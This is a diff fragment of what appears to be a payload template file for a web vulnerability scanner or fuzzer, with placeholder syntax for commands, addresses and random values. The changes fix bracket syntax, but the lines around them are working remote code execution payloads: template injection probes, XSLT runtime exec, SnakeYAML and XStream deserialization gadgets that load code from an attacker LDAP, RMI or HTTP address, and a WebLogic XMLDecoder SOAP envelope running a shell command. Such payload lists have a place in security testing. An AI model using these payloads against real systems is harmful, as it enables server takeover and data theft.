@@ -173,7 +173,7 @@ code/template-java 3: <#assign ‹=v:‹~1-5››="freemarker.template.utility.
   <xsl:value-of select="rt:exec(rt:getRuntime(),'‹cmd›')"/>
 code/template-probe 4: ‹tl›‹=a:‹#2-9999››*‹=b:‹#2-9999››‹tr›
   {{‹#2-999›*'‹#2-99›'}}
-  {{‹=a:‹#2-99›››*‹=a›}}
+  {{‹=a:‹#2-99››*‹=a›}}
   §{‹#2-999999›*‹#2-9999›}
   #{‹#2-9999›*‹#2-9999›}
   <%= ‹#2-9999›*‹#2-9999› %>
@@ -632,7 +632,7 @@ code/yaml-xml [value,body-xml] 2: !!javax.script.ScriptEngineManager [!!java.net
   !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: '‹ldap¦rmi›://‹addr›/‹jpath›', autoCommit: true}
   ‹~3-8›: !!org.springframework.context.support.ClassPathXmlApplicationContext ["http://‹addr›/‹~1-4›.xml"]
   !!org.springframework.beans.factory.config.PropertyPathFactoryBean {targetBeanName: "‹ldap¦rmi›://‹addr›/‹~1-3›"}
-  <‹=t:sorted-set¦tree-map¦map›><‹~4-6›>‹~3-6›</‹~4-6›><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>‹/bin/sh¦cmd›</string><string>‹-c¦/C›</string><string>‹cmd›</string></command></target><action>start</action></handler></dynamic-proxy></‹=t›>
+  <‹=t:‹sorted-set¦tree-map¦map››><‹~4-6›>‹~3-6›</‹~4-6›><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>‹/bin/sh¦cmd›</string><string>‹-c¦/C›</string><string>‹cmd›</string></command></target><action>start</action></handler></dynamic-proxy></‹=t›>
   <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage§XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"/><iterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><next class="java.lang.ProcessBuilder"><command><string>‹cmd›</string></command></next></iter></iterator></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>
   <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>‹cmd›</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>
   <beans xmlns="http://www.springframework.org/schema/beans"><bean id="‹~1-3›" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>‹sh¦bash¦cmd›</value><value>-c</value><value>‹cmd›</value></list></constructor-arg></bean></beans>
